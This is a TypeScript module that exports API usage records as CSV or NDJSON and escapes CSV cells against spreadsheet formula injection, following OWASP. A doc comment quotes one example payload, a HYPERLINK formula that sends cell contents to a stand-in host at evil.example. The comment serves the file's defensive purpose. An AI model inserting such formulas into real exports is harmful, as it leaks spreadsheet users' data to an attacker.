import type { UsageRecord } from '../../usage/usage-record.js';
import { apiUsageFields, toApiUsageRecord } from './api-usage-record.js';

/** A form an export can take: its media type, file extension, first line and one line per record. */
export interface UsageExportForm {
  mediaType: string;
  extension: string;
  header: string;
  line(record: UsageRecord): string;
}

/**
 * The export's forms, by media type. CSV (RFC 4180, `created_at` as ISO 8601 UTC) for spreadsheets, a column
 * per field of the API's record; NDJSON for programs, one record per line in the shape of the JSON pages'
 * `data` items. Both map records as the JSON pages do (api-usage-record.ts).
 */
export const usageExportForms = {
  'text/csv': {
    mediaType: 'text/csv; charset=utf-8',
    extension: 'csv',
    header: `${apiUsageFields.join(',')}\r\n`,
    line: (record) => apiUsageFields.map((column) => csvCell(column === 'created_at' ? new Date(record.created_at).toISOString() : record[column])).join(',') + '\r\n',
  },
  'application/x-ndjson': {
    mediaType: 'application/x-ndjson; charset=utf-8',
    extension: 'ndjson',
    header: '',
    line: (record) => `${JSON.stringify(toApiUsageRecord(record))}\n`,
  },
} as const satisfies Record<string, UsageExportForm>;

/** A text cell a spreadsheet would read as a formula (or as one after trimming a tab or a CR): OWASP's list. */
const formulaStart = /^[=+\-@\t\r]/;

/**
 * One CSV cell. Text that a spreadsheet would run as a formula (a model name such as
 * `=HYPERLINK("http://evil.example/?"&A1,"click")`, sent by any key) gets a leading `'` and quotes, per
 * OWASP's CSV injection rule (https://owasp.org/www-community/attacks/CSV_Injection); any other text is
 * quoted only when it holds a comma, quote or line break, its quotes doubled (RFC 4180). Numbers stay as
 * they are, so a negative one is still a number.
 */
export function csvCell(value: string | number | boolean | null): string {
  if (value === null) return '';
  if (typeof value !== 'string') return String(value);
  if (formulaStart.test(value)) return `"'${value.replaceAll('"', '""')}"`;
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}
